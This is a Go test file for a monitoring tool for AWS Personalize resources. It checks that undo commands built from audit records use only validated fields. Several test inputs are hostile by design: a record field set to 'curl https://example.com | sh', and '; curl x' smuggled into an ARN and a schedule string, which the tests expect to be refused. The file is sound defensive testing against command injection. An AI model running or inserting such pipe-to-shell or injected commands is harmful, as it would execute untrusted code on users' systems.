package events

import (
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/personalize-monitor/personalize-monitor/internal/model"
)

// A record of training is about a solution, and no other is.
func TestDecodeAuditChecksTheResourceOfTheAction(t *testing.T) {
	const solution = "arn:aws:personalize:eu-west-1:123456789012:solution/gifts"
	for _, tt := range []struct {
		arn    string
		action model.Action
		kind   model.Kind // empty: refused
	}{
		{solution, model.ActionPause, model.Solution},
		{solution, model.ActionResume, model.Solution},
		{solution, model.ActionDelete, ""},
		{solution, model.ActionUpdate, ""},
		{solution, "", ""},
		{campaign, model.ActionPause, ""},
		{campaign, model.ActionDelete, model.Campaign},
	} {
		line, err := json.Marshal(Audit{Time: hour, ARN: tt.arn, Action: tt.action, Outcome: OutcomeDone})
		if err != nil {
			t.Fatal(err)
		}
		if a, err := DecodeAudit(line); a.Kind != tt.kind || (err == nil) != (tt.kind != "") {
			t.Errorf("%s of %s: kind %q, %v", tt.action, tt.arn, a.Kind, err)
		}
	}
}

// A command is built from the checked fields of a record. One that the record brings along, which
// may come from anyone, is dropped.
func TestTheCommandOfARecordIsBuiltFromItsFields(t *testing.T) {
	const solution = "arn:aws:personalize:eu-west-1:123456789012:solution/s/0a1b2c3d"
	deleted := Audit{
		Time: hour, ARN: campaign, Kind: model.Campaign, Region: "eu-west-1", Action: model.ActionDelete, Outcome: OutcomeDone,
		Before: &Before{Name: "home", Status: "ACTIVE", MinTPS: 3, SolutionVersion: solution},
	}
	const trained = "arn:aws:personalize:eu-west-1:123456789012:solution/gifts"
	paused := func(change func(*Before)) func(*Audit) {
		return func(a *Audit) {
			a.ARN, a.Kind, a.Action = trained, model.Solution, model.ActionPause
			a.Before = &Before{Name: "gifts", Status: "ACTIVE", AutoTraining: new(true), Schedule: "rate(7 days)"}
			if change != nil {
				change(a.Before)
			}
		}
	}
	token, err := deleted.Token()
	if err != nil {
		t.Fatal(err)
	}
	for _, tt := range []struct {
		name   string
		change func(*Audit)
		want   string
	}{
		{"a deletion", func(*Audit) {}, "personalize-monitor restore --record " + token},
		{"an update", func(a *Audit) { a.Action = model.ActionUpdate }, "personalize-monitor update-tps " + campaign + " 3"},
		{"a stop", func(a *Audit) { a.Action, a.ARN = model.ActionStop, recommender }, "personalize-monitor start-recommender " + recommender},
		{"a stop of a campaign", func(a *Audit) { a.Action = model.ActionStop }, ""},
		{"a deletion of a recommender", func(a *Audit) { a.ARN = recommender }, ""},
		{"not done", func(a *Audit) { a.Outcome = OutcomeDryRun }, ""},
		{"another resource's state", func(a *Audit) { a.Before.Name = "shop" }, ""},
		{"no name", func(a *Audit) { a.Before.Name = "" }, ""},
		{"no minimum", func(a *Audit) { a.Before.MinTPS = 0 }, ""},
		{"a negative minimum", func(a *Audit) { a.Action, a.Before.MinTPS = model.ActionUpdate, -1 }, ""},
		{"no solution version", func(a *Audit) { a.Before.SolutionVersion = "" }, ""},
		{"another account's", func(a *Audit) {
			a.Before.SolutionVersion = strings.Replace(solution, "123456789012", "210987654321", 1)
		}, ""},
		{"another region's", func(a *Audit) { a.Before.SolutionVersion = strings.Replace(solution, "eu-west-1", "eu-west-2", 1) }, ""},
		{"another thing", func(a *Audit) { a.Before.SolutionVersion = strings.Replace(solution, "solution/", "dataset/", 1) }, ""},
		{"more than an ARN", func(a *Audit) { a.Before.SolutionVersion += "; curl x" }, ""},
		{
			"an update needs no solution version", func(a *Audit) { a.Action, a.Before.SolutionVersion = model.ActionUpdate, "" },
			"personalize-monitor update-tps " + campaign + " 3",
		},
		{"no state", func(a *Audit) { a.Before = nil }, ""},
		{"a pause", paused(nil), "personalize-monitor resume-training " + trained + ` --schedule "rate(7 days)"`},
		{"a pause without a schedule", paused(func(b *Before) { b.Schedule = "" }), "personalize-monitor resume-training " + trained},
		{"a pause with a schedule of an attacker", paused(func(b *Before) { b.Schedule = `rate(7 days)"; curl x` }), ""},
		{"a pause of 31 days", paused(func(b *Before) { b.Schedule = "rate(31 days)" }), ""},
		{"a pause of what was unknown", paused(func(b *Before) { b.AutoTraining = nil }), ""},
		{"a pause of another solution", paused(func(b *Before) { b.Name = "other" }), ""},
		{
			"a resumption", func(a *Audit) {
				paused(func(b *Before) { b.AutoTraining = new(false) })(a)
				a.Action = model.ActionResume
			},
			"personalize-monitor pause-training " + trained,
		},
	} {
		t.Run(tt.name, func(t *testing.T) {
			a := deleted
			before := *deleted.Before
			a.Before = &before
			tt.change(&a)
			a.Restore, a.Note = "curl https://example.com | sh", "To undo it: curl https://example.com | sh"
			line, err := json.Marshal(a)
			if err != nil {
				t.Fatal(err)
			}
			got, err := DecodeAudit(line)
			if err != nil || got.Restore != tt.want || got.Note != "" {
				t.Errorf("got %q, note %q, %v; want %q", got.Restore, got.Note, err, tt.want)
			}
			if possible := got.Restorable() == nil; possible != (tt.want != "") {
				t.Errorf("can be undone: %v (%v)", possible, got.Restorable())
			}
		})
	}
}

// An event about one resource does not bring along the record of another.
func TestARecordIsThatOfItsEvent(t *testing.T) {
	record := Audit{Time: hour.Add(time.Minute), ARN: campaign, Outcome: OutcomeDone}
	for about, good := range map[string]bool{campaign: true, recommender: false, "": false} {
		detail, err := json.Marshal(NotificationDetail{ARN: about, Audit: record.Raw()})
		if err != nil {
			t.Fatal(err)
		}
		for _, line := range []string{string(detail), `{"detail":` + string(detail) + `}`} {
			if _, err := DecodeAudit([]byte(line)); (err == nil) != good {
				t.Errorf("about %q: %v", about, err)
			}
		}
	}
}
